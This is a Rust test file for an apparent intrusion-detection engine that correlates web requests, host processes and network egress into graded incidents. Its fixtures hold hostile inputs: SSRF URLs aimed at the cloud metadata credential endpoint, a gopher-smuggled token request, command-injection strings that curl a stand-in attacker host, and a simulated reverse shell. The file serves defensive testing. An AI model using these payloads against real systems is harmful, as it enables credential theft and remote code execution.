//! A bad day: coincidences, clocks that are set, memory that runs out, services that fetch what users ask for.

use crate::correlate::Config;
use crate::event::MetadataPath;
use crate::evidence::{EgressEvidence, HostEvidence, Novelty, Placement};
use crate::incident::{Incident, Severity};
use crate::request::{AttackClass, Indicator, Verdict};

use super::build::*;

fn severities(run: &Run) -> Vec<Severity> {
    run.finals().values().map(|incident| incident.severity).collect()
}

/// A forged request in flight from 0 to 0.2 s, and its service asking for its credential as it does as a rule: whether that raises.
fn forged(url: &str, status: u16, refresh: f64, own_accord: bool) -> Option<Severity> {
    let address = vec![Indicator::Url(url.into()), Indicator::Address("169.254.169.254".parse().expect("address"))];
    let forged = Line {
        status,
        verdict: Some(verdict(AttackClass::Ssrf, 95, address)),
        ..line(0.0, &format!("/fetch?url={url}"))
    };
    let asked = metadata(refresh, below(&[]), MetadataPath::Credential);
    let asked = HostEvidence { novelty: Novelty::Known, own_accord, ..asked };
    let either_way = [[Input::from(forged.clone()), asked.clone().into()], [asked.into(), forged.into()]];
    let [one, other] = either_way.map(|inputs| severities(&Run::of(inputs)).pop());
    assert_eq!(one, other, "in any order");
    one
}

#[test]
fn a_refresh_beside_a_scanners_forgery_is_nobodys_doing() {
    let check = |refresh: f64, status: u16, expected: Option<Severity>| {
        let found = forged("http://169.254.169.254/latest/meta-data/", status, refresh, false);
        assert_eq!(found, expected, "{refresh} s, answered {status}");
    };
    check(0.1, 200, Some(Severity::Medium));
    check(0.1, 404, None);
    // The clocks of balancer and host differ a little.
    check(0.35, 200, Some(Severity::Medium));
    check(-0.15, 500, Some(Severity::Medium));
    check(0.35, 404, None);
    check(-0.15, 403, None);
    // Within the greatest skew that is allowed for, there is always some scanner.
    check(1.5, 200, None);
    check(1.5, 404, None);
    check(-1.5, 200, None);
}

#[test]
fn what_a_service_does_of_its_own_accord_needs_more_than_a_request_for_it() {
    let check = |url: &str, expected: Option<Severity>| assert_eq!(forged(url, 200, 0.1, true), expected, "{url}");
    check("http://169.254.169.254/latest/meta-data/iam/security-credentials/", None);
    // Guessed.
    check("http://169.254.169.254/latest/meta-data/iam/security-credentials/admin", None);
    // Told by the answer to the request before.
    check("http://169.254.169.254/latest/meta-data/iam/security-credentials/shop-prod", Some(Severity::High));
    check("http://169.254.169.254/latest/meta-data/iam/security-credentials/shop-prod?x", Some(Severity::High));
    // It says how a session token is got.
    check("gopher://169.254.169.254:80/_PUT%20/latest/api/token", Some(Severity::Medium));
}

/// A user has a page made into a picture: the shell's command line holds the page's address.
fn rendered(novelty: Novelty, command: &str) -> Vec<Input> {
    let page = "http://198.51.100.77/page";
    let asked = Line {
        completed: 2.0,
        verdict: Some(verdict(
            AttackClass::Rfi,
            60,
            vec![Indicator::Url(page.into()), Indicator::Host("198.51.100.77".into())],
        )),
        ..line(0.0, "/render?page=http://198.51.100.77/page")
    };
    let started = HostEvidence { novelty, ..shell(0.1, command) };
    let fetched = EgressEvidence { novelty, ..egress(0.2, "198.51.100.77:80") };
    vec![asked.into(), started.into(), fetched.into()]
}

#[test]
fn what_a_service_fetches_for_its_users_is_no_breach() {
    let plain = "wkhtmltopdf http://198.51.100.77/page /tmp/x.pdf";
    let while_learning = Run::of(rendered(Novelty::NewWhileLearning, plain));
    assert_eq!(severities(&while_learning), []);
    // The first of its kind on a service that is known is worth a look, and not more.
    let first = Run::of(rendered(Novelty::New, plain));
    assert_eq!(severities(&first), [Severity::Medium]);
    // What the fetched page made the service do is its own matter.
    let mut inputs = rendered(Novelty::NewWhileLearning, plain);
    inputs.push(reverse_shell(1.0, "bash -i").into());
    assert!(severities(&Run::of(inputs)).iter().all(|severity| *severity >= Severity::High));
}

/// A repository that a user named at `received`, in its line.
fn import(received: f64, name: &str) -> Line {
    let url = format!("https://203.0.113.9/{name}.git");
    Line {
        verdict: Some(verdict(AttackClass::Rfi, 25, vec![Indicator::Url(url.clone())])),
        ..line(received, &format!("/import?from={url}"))
    }
}

#[test]
fn what_another_user_named_at_the_same_place_before_is_no_reason() {
    let learning = Novelty::NewWhileLearning;
    let command = "git fetch https://203.0.113.9/b.git";
    let started = HostEvidence { novelty: learning, ..shell(3600.1, command) };
    let helper = below(&[(201, "/usr/bin/git", command), (200, "/usr/bin/dash", &format!("sh -c {command}"))]);
    let reached = EgressEvidence { novelty: learning, ..contact(3600.2, helper, "203.0.113.9:443") };
    // The line of the request that asked for it comes later.
    let run = Run::of([Input::from(import(0.0, "a")), started.into(), reached.into(), import(3600.0, "b").into()]);
    assert_eq!(severities(&run), []);
}

#[test]
fn what_a_program_that_is_usual_here_fetches_is_no_breach() {
    let check = |place: Placement, peer: &str, raised: bool| {
        let asked = import(0.0, "a");
        let asked = Line { verdict: asked.verdict.map(|verdict| Verdict { score: 60, ..verdict }), ..asked };
        let run = Run::of([Input::from(contact(0.1, place, peer)), asked.into()]);
        assert_eq!(!severities(&run).is_empty(), raised, "{peer}");
    };
    let helper = || below(&[(201, "/usr/bin/git", "git fetch https://203.0.113.9/a.git")]);
    check(helper(), "203.0.113.9:443", false);
    // By the service itself, or elsewhere: it need not have been what was asked for.
    check(below(&[]), "203.0.113.9:443", true);
    check(helper(), "203.0.113.66:443", true);
}

#[test]
fn a_clock_that_is_set_by_an_hour_changes_nothing() {
    for step in [-3600.0, 3600.0] {
        let mut run = Run::new();
        run.advance(-600.0);
        run.advance(-600.0 + step);
        full_chain().into_iter().for_each(|input| run.feed(input));
        assert_eq!(run.only().severity, Severity::Critical, "{step}");
    }
}

#[test]
fn a_clock_that_was_years_ahead_does_not_blind_the_engine() {
    let mut run = Run::new();
    run.advance(9e7);
    run.feed(shell(9e7, "id"));
    run.advance(-60.0);
    assert_eq!(run.engine.counters().clock_set_back, 1);
    full_chain().into_iter().for_each(|input| run.feed(input));
    assert_eq!(run.only().severity, Severity::Critical);
    assert!(run.only().missing.iter().any(|text| text.contains("clock")), "{:?}", run.only().missing);
}

#[test]
fn what_was_told_to_its_end_is_not_raised_again() {
    let mut run = Run::new();
    // The same evidence again and again, and a line at last, until long after nothing of it can count any more.
    for quarter in 0..100_u32 {
        run.advance(f64::from(quarter) * 900.0);
        full_chain().into_iter().for_each(|input| run.feed(input));
        run.feed(injection(-1.0));
    }
    let raised = |run: &Run| -> Vec<String> {
        let first = run.revisions.iter().filter(|incident| incident.revision == 1);
        first.map(|incident| incident.id.clone()).collect()
    };
    assert_eq!((run.finals().len(), raised(&run).len()), (1, 1));
    // What the intruder does next is a chain of its own.
    let next = 99.0 * 900.0;
    run.feed(shell(next, "ping 127.0.0.1;curl http://203.0.113.7/x"));
    run.feed(injection(next - 0.1));
    run.settle();
    let ids = raised(&run);
    assert!(ids.len() == 2 && ids[0] != ids[1], "{ids:?}");
}

#[test]
fn incidents_of_one_attacker_share_a_campaign() {
    let mut run = Run::of(full_chain());
    let others = full_chain().into_iter().map(|input| match input {
        Input::Edge(line) => {
            Input::Edge(Line { client: "198.51.100.200:999".into(), workload: workload("blog"), ..line })
        }
        Input::Host(mut evidence) => {
            evidence.place.workload = workload("blog");
            Input::Host(evidence)
        }
        Input::Egress(mut evidence) => {
            evidence.place.workload = workload("blog");
            Input::Egress(evidence)
        }
        Input::Gap(gap) => Input::Gap(gap),
    });
    others.for_each(|input| run.feed(input));
    let finals = run.finals();
    let campaigns: Vec<_> = finals.values().filter_map(|incident| incident.campaign.clone()).collect();
    assert_eq!(campaigns.len(), 2);
    assert_eq!(campaigns[0].id, campaigns[1].id);
    assert_eq!(campaigns[0].indicators[0], "address 203.0.113.7");
    // What has nothing of the attacker's own is no campaign.
    let quiet = Run::of([Input::from(shell(0.1, "./run")), credential(0.2).into()]);
    assert_eq!(quiet.only().campaign, None);
}

#[test]
fn an_early_revision_says_how_many_requests_it_may_have_been() {
    let title = |incident: &Incident| incident.title.clone();
    let blind = |received: f64, url: &str| Line {
        verdict: Some(verdict(AttackClass::Cmdi, 80, Vec::new())),
        completed: received + 0.5,
        ..line(received, url)
    };
    let inputs = [
        Input::from(blind(0.0, "/a?x=;id")),
        blind(0.001, "/b?x=;id").into(),
        shell(0.1, "./run").into(),
        egress(0.2, "203.0.113.7:80").into(),
    ];
    let mut run = Run::of(inputs);
    assert!(title(run.only()).contains("one of 2 candidate requests"), "{}", title(run.only()));
    run.feed(injection(0.0));
    let later = shell(0.3, "ping 127.0.0.1;curl http://203.0.113.7/x");
    run.feed(HostEvidence { place: below(&[(230, "/usr/bin/dash", "sh -c curl http://203.0.113.7/x")]), ..later });
    assert!(title(run.only()).contains("after a request from"), "{}", title(run.only()));
}

#[test]
fn what_had_to_go_is_told_in_the_incidents_that_it_may_touch() {
    let mut run = Run::with(Config { edge_requests: 8, ..Config::default() });
    for n in 0..200_u32 {
        let class = [AttackClass::Cmdi, AttackClass::Sqli, AttackClass::Ssti, AttackClass::Ssrf][n as usize % 4];
        let sprayed = verdict(class, 90, Vec::new());
        run.feed(Line { verdict: Some(sprayed), ..line(f64::from(n) * 3.0 - 300.0, &format!("/?n={n}")) });
    }
    full_chain().into_iter().for_each(|input| run.feed(input));
    run.advance(7200.0);
    assert!(run.engine.counters().edge_evicted > 0);
    let told =
        |incident: &Incident| incident.missing.iter().any(|text| text.contains("edge request records were lost"));
    assert!(run.finals().values().all(told), "{:?}", run.only().missing);

    let mut run = Run::with(Config { chains_per_workload: 2, ..Config::default() });
    full_chain().into_iter().for_each(|input| run.feed(input));
    for n in 0..6_u32 {
        let mut other = shell(1.0 + f64::from(n), "x");
        other.place.service = None;
        let mut instance = (*other.place.workload).clone();
        instance.cgroup = format!("/system.slice/shop-{n}").into();
        other.place.workload = std::sync::Arc::new(instance);
        run.feed(other);
    }
    run.advance(7200.0);
    assert!(run.engine.counters().chains_evicted > 0);
    let breach = run.finals().into_values().find(|incident| incident.severity == Severity::Critical).expect("kept");
    assert!(breach.missing.iter().any(|text| text.contains("root process")), "{:?}", breach.missing);
}
